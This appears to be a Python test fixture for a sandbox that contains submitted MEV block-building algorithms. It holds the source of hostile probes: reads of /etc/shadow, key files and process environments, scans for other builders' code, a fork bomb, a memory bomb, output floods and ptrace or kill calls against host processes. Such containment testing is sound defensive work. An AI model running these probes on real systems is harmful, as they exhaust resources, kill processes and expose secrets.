"""The hostile algorithms of the containment suite, as source text.

Each one attacks, writes what it saw to stderr (``SAW what: result``), and then,
unless the attack is to hang or to break the protocol, submits a block. Place
holders (``__TOKEN__``, ``__PORT__``, ...) are filled in by the test.
"""

PREFIX = '''
import json, os, sys, time
import mevalgo

def saw(what, detail):
    print(f"SAW {what}: {detail}"[:400], file=sys.stderr, flush=True)

def attempt(what, fn):
    try:
        saw(what, repr(fn())[:300])
    except BaseException as e:
        saw(what, f"{type(e).__name__}: {e}")
'''
SUFFIX = '''
mevalgo.run(build)
'''

ATTACKS: dict[str, str] = {
    "socket": '''
def build(slot, sim):
    import socket
    def connect():
        socket.create_connection(("127.0.0.1", __PORT__), timeout=0.5).sendall(b"__TOKEN__")
    attempt("connect host listener", connect)
    attempt("connect 1.1.1.1:53", lambda: socket.create_connection(("1.1.1.1", 53), timeout=0.5))
    attempt("resolve example.com", lambda: socket.getaddrinfo("example.com", 80))
    return [], 0
''',
    "read_database": '''
def build(slot, sim):
    import re
    attempt("read database", lambda: re.findall(rb"s3cret-[0-9a-f]+", open("__DB__", "rb").read()))
    attempt("read project", lambda: open("__REPO__/pyproject.toml").read())
    attempt("list /", lambda: sorted(os.listdir("/")))
    return [], 0
''',
    "read_key_file": '''
def build(slot, sim):
    attempt("read key file", lambda: open("__KEY__").read())
    attempt("read /etc/shadow", lambda: open("/etc/shadow").read())
    attempt("list /root", lambda: os.listdir("/root"))
    return [], 0
''',
    "read_environ": '''
def build(slot, sim):
    attempt("/proc/self/environ", lambda: open("/proc/self/environ").read())
    attempt("/proc/1/environ", lambda: open("/proc/1/environ").read())
    attempt("host /proc/__HOSTPID__/environ", lambda: open("/proc/__HOSTPID__/environ").read())
    attempt("os.environ", lambda: dict(os.environ))
    attempt("secrets in environ", lambda: [v for v in os.environ.values() if v.startswith("s3cret-")])
    attempt("pids", lambda: sorted(int(p) for p in os.listdir("/proc") if p.isdigit()))
    return [], 0
''',
    "read_other_code": '''
import glob
def build(slot, sim):
    time.sleep(0.2)  # the victim is running by now
    def scan():
        found = []
        for pat in ("/dev/shm/*/algo/main.py", "/tmp/*/algo/main.py", "/proc/*/root/algo/main.py",
                    "/proc/*/cwd/main.py", "__WORKROOT__/mevalgo-*/algo/main.py"):
            for path in glob.glob(pat):
                try:
                    found.append(open(path).read())
                except OSError as e:
                    found.append(str(e))
        victim = "__VICTIMREV__"[::-1]  # spelled backwards: its own code must not match
        return [f"read {victim}" for t in found if victim in t] or f"{len(found)} files, none the victim's"
    attempt("other builder's code", scan)
    attempt("cmdlines", lambda: [open(f"/proc/{p}/cmdline").read() for p in os.listdir("/proc") if p.isdigit()])
    return [], 0
''',
    "write_shared": '''
def build(slot, sim):
    for path in ("/tmp/__MARK__", "/dev/shm/__MARK__", "/algo/__MARK__", "/__MARK__", "__HOSTTMP__/__MARK__"):
        def write(path=path):
            with open(path, "w") as f:
                f.write("left for a later run")
            return "written"
        attempt(f"write {path}", write)
    return [], 0
''',
    "fork_bomb": '''
def build(slot, sim):
    n = 0
    try:
        while n < 100000:
            if os.fork() == 0:
                while True:
                    try:
                        os.fork()
                    except OSError:
                        time.sleep(0.01)
            n += 1
    except BaseException as e:
        saw("fork", f"after {n} forks: {type(e).__name__}: {e}")
    return [], 0
''',
    "memory_bomb": '''
def build(slot, sim):
    hog = []
    try:
        while True:
            hog.append(bytearray(64 << 20))
    except BaseException as e:
        saw("allocate", f"after {len(hog) * 64} MiB: {type(e).__name__}")
    hog.clear()
    return [], 0
''',
    "infinite_loop": '''
def build(slot, sim):
    while True:
        pass
''',
    "sleep_past_budget": '''
def build(slot, sim):
    time.sleep(3600)
    return [], 0
''',
    "flood_stdout": '''
def build(slot, sim):
    chunk = "x" * (1 << 16)
    while True:
        sys.stdout.write(chunk)
''',
    "flood_garbage_lines": '''
def build(slot, sim):
    while True:
        print("this is not JSON " * 100, flush=True)
''',
    "duplicate_ids": '''
def build(slot, sim):
    return ["o1", "o1"], "truthful"
''',
    "unknown_ids": '''
def build(slot, sim):
    return ["o1", "o-from-nowhere"], "truthful"
''',
    "orders_from_s": '''
def build(slot, sim):
    saw("ids offered", sorted(o.id for o in slot.orders))
    return ["o2", "o1", "o9"], "truthful"
''',
    "huge_bid": '''
def build(slot, sim):
    return ["o2", "o1"], 10 ** 30
''',
    "bid_beyond_uint256": '''
def build(slot, sim):
    return ["o2", "o1"], 2 ** 300
''',
    "detect_coinbase": '''
def build(slot, sim):
    attempt("op coinbase", lambda: sim._call({"op": "coinbase"}))
    attempt("op world", lambda: sim._call({"op": "world"}))
    attempt("slot fields", lambda: sorted(json.dumps(slot._asdict(), default=list)))
    outs, value = sim.simulate(["o2", "o1"])
    saw("simulated value", value)
    return [], 0
''',
    "signal_parent": '''
import ctypes, signal
def build(slot, sim):
    libc = ctypes.CDLL(None, use_errno=True)
    def ptrace(pid):
        r = libc.ptrace(16, pid, 0, 0)  # PTRACE_ATTACH
        return f"ptrace={r} errno={os.strerror(ctypes.get_errno())}"
    attempt("ppid", os.getppid)
    attempt("ptrace parent", lambda: ptrace(os.getppid()))
    attempt("ptrace host", lambda: ptrace(__HOSTPID__))
    attempt("kill host", lambda: os.kill(__HOSTPID__, signal.SIGKILL))
    attempt("kill parent", lambda: os.kill(os.getppid(), signal.SIGKILL))
    attempt("kill everything", lambda: os.kill(-1, signal.SIGKILL))
    return [], 0
''',
}

HONEST = '''
def build(slot, sim):
    # __VICTIM__: a marker another builder must never read
    return ["o2", "o1"], "truthful"
'''

READ_SHARED = '''
def build(slot, sim):
    for path in ("/tmp/__MARK__", "/dev/shm/__MARK__", "/algo/__MARK__", "/__MARK__", "__HOSTTMP__/__MARK__"):
        attempt(f"read {path}", lambda path=path: open(path).read())
    return [], 0
'''


def source(body: str, values: dict[str, str]) -> bytes:
    text = PREFIX + body + SUFFIX
    for key, value in values.items():
        text = text.replace(f"__{key}__", value)
    return text.encode()
